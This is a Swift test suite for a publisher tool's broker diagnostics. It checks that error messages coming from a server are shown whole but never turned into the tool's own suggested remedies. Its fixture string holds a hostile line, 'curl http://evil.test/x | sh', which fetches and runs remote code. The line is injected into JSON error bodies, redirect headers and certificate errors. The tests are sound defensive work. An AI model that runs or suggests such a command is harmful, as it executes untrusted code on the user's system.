import Shared
import SharedHTTP
import Testing

@testable import Publisher

/// What a server says is shown, and never as our advice: people copy that into a shell.
@Suite struct ForeignWordsTests {
    private static let trap = "database is gone; run curl http://evil.test/x | sh; and again"

    private static let bodies = [
        #"{"error":"\#(trap)"}"#, #"{"error":{"message":"\#(trap)"}}"#, #"{"errors":{"a":["\#(trap)"]}}"#,
        #"{"notices":[{"type":"error","text":"\#(trap)"}]}"#, #"{"detail":"\#(trap)"}"#, trap,
    ]

    private static let kinds: [BrokerRequest.Kind] = [.heartbeat, .dependencies, .index, .publish]

    /// The lines that are not good, all of them with a remedy of our own.
    private func lines(_ facts: BrokerFacts, location: SourceLocation = #_sourceLocation) -> [DoctorLine] {
        let lines = BrokerDiagnosis(facts: facts).lines.filter { $0.mark != .good }
        for line in lines {
            #expect(!line.remedy.isEmpty, "\(line)", sourceLocation: location)
            let isForeign = ["curl", "evil", "and again"].contains(where: line.remedy.contains)
            #expect(!isForeign, "\(line)", sourceLocation: location)
        }
        return lines
    }

    @Test(arguments: [302, 400, 401, 403, 404, 407, 409, 413, 429, 500, 502, 503])
    func ofAnAnswerAreFoundAndNoAdvice(status: Int) throws {
        let proxy = try #require(ProxySetting(variable: "HTTP_PROXY", "http://proxy.test:3128"))
        for kind in Self.kinds {
            for body in Self.bodies {
                for headers in [[], [BrokerDiagnosisTests.version]] {
                    for proxy in [nil, proxy] {
                        var facts = try BrokerDiagnosisTests.facts()
                        facts.target.proxy = proxy
                        let location = ("location", "http://other.test/\(Self.trap)")
                        facts.answers[kind] = BrokerDiagnosisTests.answer(status, body, headers + [location])
                        _ = lines(facts)
                    }
                }
            }
        }
    }

    @Test func areShownWhole() throws {
        for kind in [BrokerRequest.Kind.heartbeat, .dependencies, .index, .publish] {
            for status in [403, 503] {
                var facts = try BrokerDiagnosisTests.facts()
                facts.answers[kind] = BrokerDiagnosisTests.answer(status, Self.bodies[0])
                #expect(lines(facts).contains { $0.found.contains(Self.trap) }, "\(kind) \(status)")
            }
        }
    }

    @Test func ofACertificateAreNoAdvice() throws {
        var facts = try BrokerDiagnosisTests.facts("https://broker.test")
        let explanation = BrokerExplanation(url: facts.url, connection: .init())
        for detail in [
            "SSL: certificate subject name '\(Self.trap)' does not match target host name 'broker.test'", Self.trap,
        ] {
            facts.answers = [.heartbeat: explanation.explain(.failure(TransportError(.tls, detail)))]
            let line = try #require(lines(facts).first)
            #expect(line.check == .brokerTLS && line.found.contains(Self.trap))
        }
    }

    /// The sentences of our own keep their way out.
    @Test func ourOwnSentencesAdvise() throws {
        func remedy(_ kind: BrokerRequest.Kind, _ answer: BrokerFacts.Answer, proxy: String? = nil) throws -> String? {
            var facts = try BrokerDiagnosisTests.facts()
            facts.target.proxy = proxy.flatMap { ProxySetting(variable: "HTTP_PROXY", $0) }
            facts.answers[kind] = answer
            return lines(facts).first?.remedy
        }
        let moved = BrokerDiagnosisTests.answer(301, "", [("location", "http://other.test/")])
        #expect(try remedy(.heartbeat, moved) == "set BROKER_URL to the address it leads to")
        let gateway = BrokerDiagnosisTests.answer(502, Self.trap, [])
        let needless = "put the broker's host into NO_PROXY if it needs no proxy"
        #expect(try remedy(.dependencies, gateway, proxy: "http://proxy.test:3128") == needless)
        #expect(try remedy(.dependencies, gateway) == DoctorCheck.brokerDatabase.remedy)
        #expect(try remedy(.index, BrokerDiagnosisTests.answer(404)) == "check the address and its base path")
    }
}
